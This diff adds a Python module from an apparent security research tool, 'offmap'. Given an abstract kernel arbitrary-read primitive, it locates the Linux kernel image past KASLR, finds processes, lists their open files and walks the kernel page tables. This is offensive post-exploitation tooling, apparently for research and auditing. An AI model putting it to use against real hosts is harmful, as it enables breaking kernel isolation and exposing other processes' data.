@@ -1,0 +1,133 @@
+"""The host, as the attacker sees it: by the primitive alone."""
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import numpy as np
+from numpy.typing import NDArray
+
+from offmap.attack.knowledge import Kernel
+from offmap.attack.linux import IMAGE_ALIGN, Linux, Lost, Process
+from offmap.attack.primitive import NotMapped, Primitive, Unreadable
+from offmap.audit.btf import Unknown
+from offmap.audit.mappings import KernelMappings
+from offmap.audit.vmcoreinfo import START_KERNEL_MAP
+from offmap.audit.walk import walk_kernel_half
+from offmap.uapi.page import PAGE_SIZE
+
+_IMAGE_SPACE = 1 << 30  # KERNEL_IMAGE_SIZE with KASLR
+_MOST_FILES = 1 << 16
+_NAME = 64
+
+
+@dataclass(frozen=True)
+class File:
+    """An open file of a process: address of its ``struct file``, and its name without the folder."""
+
+    file: int
+    name: str
+
+
+class Host(Linux):
+    """Reads the host kernel.
+
+    Args:
+        primitive: how.
+        kernel: what is known of the host's kernel.
+    """
+
+    def __init__(self, primitive: Primitive, kernel: Kernel) -> None:
+        super().__init__(kernel)
+        self._primitive = primitive
+
+    def read(self, va: int, size: int = 8) -> bytes:
+        return self._primitive.read(va, size)
+
+    def physical(self, pa: int, size: int = 8) -> bytes:
+        return self._primitive.read(self.direct_map + pa, size)
+
+    def find_image(self, base: int | None) -> int:
+        """Where the image is: ``_text``. Searched for among all places that KASLR may choose, unless it is given.
+
+        Raises:
+            Lost: it is nowhere.
+        """
+        places = range(START_KERNEL_MAP, START_KERNEL_MAP + _IMAGE_SPACE, IMAGE_ALIGN) if base is None else (base,)
+        for place in places:
+            try:
+                if self.is_image(place + self.banner_offset):
+                    self.slide = place - self.kernel.symbol("_text")
+                    return place
+            except NotMapped:
+                continue
+        raise Lost("the host's kernel is not the one that is known, or not where it should be")
+
+    def process(self, pid: int) -> Process:
+        """The process with this PID.
+
+        Raises:
+            Lost: there is none.
+        """
+        for each in self.processes():
+            if each.pid == pid:
+                return each
+        raise Lost(f"the host has no process {pid}")
+
+    def files(self, process: Process) -> Iterator[File]:
+        """Its open files."""
+        files = self.pointer_in(process.task, "task_struct", "files")
+        table = self.pointer_in(files, "files_struct", "fdt")
+        size = self.field(table, "fdtable", "max_fds", size=4)
+        if not 0 < size <= _MOST_FILES:
+            raise Lost(f"fdtable.max_fds cannot be {size}")
+        array = self.pointer_in(table, "fdtable", "fd")
+        for number in range(size):
+            file = int.from_bytes(self.read(array + 8 * number), "little")
+            if not file:
+                continue
+            entry = self.pointer_in(file, "file", "f_path", "dentry")
+            name = self.pointer_in(entry, "dentry", "d_name", "name")
+            yield File(file, self.text(name, _NAME))
+
+    def mappings(self) -> KernelMappings:
+        """All that the kernel half of the page tables maps, read through the primitive.
+
+        Raises:
+            Lost: the tables cannot be found.
+        """
+        try:
+            root = self.symbol("init_top_pgt")
+        except Unknown:
+            root = self.symbol("swapper_pg_dir")
+        phys_base = int.from_bytes(self.read(self.symbol("phys_base")), "little")
+        root_pa = (root - START_KERNEL_MAP + phys_base) % (1 << 64)
+        if self.read(root, 8 * 512)[2048:] != self.physical(root_pa, 8 * 512)[2048:]:
+            raise Lost("the kernel's top page table is not where phys_base says")
+        encrypted = ((1 << 52) - PAGE_SIZE) & ~self.mask
+        return walk_kernel_half(
+            _Tables(self._primitive, self.direct_map), root_pa, self.levels, self.direct_map, encrypted
+        )
+
+
+class _Tables:
+    """Page tables by the primitive (``walk.PhysicalReader``)."""
+
+    def __init__(self, primitive: Primitive, direct_map: int) -> None:
+        self._primitive, self._direct_map = primitive, direct_map
+
+    def in_ram(self, pa: NDArray[np.uint64]) -> NDArray[np.bool_]:
+        return np.array([self._readable(each) for each in pa.tolist()], dtype=np.bool_)
+
+    def _readable(self, pa: int) -> bool:
+        try:
+            self._primitive.read(self._direct_map + pa)
+        except (NotMapped, Unreadable):
+            return False
+        return True
+
+    def read_pages(self, pa: NDArray[np.uint64], out: NDArray[np.uint64]) -> None:
+        for row, each in enumerate(pa.tolist()):
+            out[row] = np.frombuffer(self._primitive.read(self._direct_map + each, PAGE_SIZE), dtype=np.uint64)
+
+    def zero_filled(self, pa: NDArray[np.uint64]) -> NDArray[np.bool_]:
+        return np.zeros(len(pa), dtype=np.bool_)  # the primitive makes nothing up
